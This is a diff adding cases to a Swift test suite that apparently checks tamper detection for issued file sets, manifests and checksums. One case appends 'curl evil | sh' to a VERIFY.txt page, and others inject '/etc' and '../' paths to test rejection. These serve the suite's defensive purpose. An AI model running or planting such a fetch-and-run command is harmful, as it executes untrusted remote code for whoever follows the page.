@@ -187,6 +187,12 @@ import Testing
     Tampering(what: "a path that escapes", codes: [.issuedFileChanged, .pathEscape, .sourceExtra]) {
       try replace($0, "issued/MANIFEST.sha256", "  texts/empty.txt", "  ../exts/empty.txt")
     },
+    Tampering(what: "the page for strangers", codes: [.issuedFileChanged]) {
+      try $0.append(Array("    curl evil | sh\n".utf8), to: "issued/VERIFY.txt")
+    },
+    Tampering(what: "the size of the sources", codes: [.manifestChanged]) {
+      try replace($0, "issued/manifest.json", "\"bytes\":", "\"bytes\":9")
+    },
     Tampering(what: "a count in the manifest", codes: [.manifestChanged]) {
       try replace($0, "issued/manifest.json", "\"confirmed\":3", "\"confirmed\":2")
     },
@@ -213,6 +219,44 @@ import Testing
     let changed = try #require(try verify(folder).first { $0.code == .recordChanged })
     #expect(changed.notes == ["verdict.depth: expected \"list\", found \"delo\""])
     #expect(changed.place?.line == 1)
+  }
+
+  /// What a text gives rise to say is for `check`; a set of old encodings still holds.
+  @Test func aSetWithUnreadableTextHoldsAndIsGuarded() throws {
+    try tree.file("texts/old.txt", [0xCF, 0xF0, 0xE8])
+    try tree.fifo("texts/pipe")
+    let folder = try issue()
+    #expect(try !verify(folder).hasFindings)
+    try Self.replace(tree, "issued/manifest.json", "\"confirmed\":3", "\"confirmed\":0")
+    #expect(try verify(folder).map(\.code).contains(.manifestChanged))
+  }
+
+  @Test(arguments: [
+    ("\"paths\":[\"texts\"]", "\"paths\":[\"/etc\"]"),
+    ("\"paths\":[\"texts\"]", "\"paths\":[\"../texts\"]"),
+    ("\"paths\":[\"texts\"]", "\"paths\":[\"\"]"),
+    ("\"paths\":[\"texts\"]", "\"paths\":[\"texts\",\"texts\"]"),
+    ("\"excluded\":[]", "\"excluded\":[\"elsewhere\"]"),
+  ]) func pathsOfAManifestAreInTheirOneForm(old: String, new: String) throws {
+    let folder = try issue()
+    try Self.replace(tree, "issued/manifest.json", old, new)
+    #expect(throws: RegestError(.manifestMalformed, "")) { try verify(folder) }
+  }
+
+  @Test func manyRenamedFilesArePaired() throws {
+    let listed = try (0..<20_000).map {
+      SumsFile.Entry(
+        path: PathBytes("a/\($0)"), digest: try SHA256Digest.of(Array("\($0)".utf8)))
+    }.sorted { $0.path < $1.path }
+    let found = listed.map { entry in
+      SourceSurvey.Source(
+        path: PathBytes("b/" + entry.path.display.dropFirst(2)),
+        fingerprint: FileFingerprint(digest: entry.digest, size: 1), records: [], outcomes: [],
+        diagnostics: [])
+    }
+    let diagnostics = FixityComparison(listed: listed, found: found, unread: []).diagnostics
+    #expect(diagnostics.count == 20_000)
+    #expect(diagnostics.allSatisfy { $0.code == .sourceRenamed })
   }
 
   @Test func anotherRegisterIsNamed() throws {
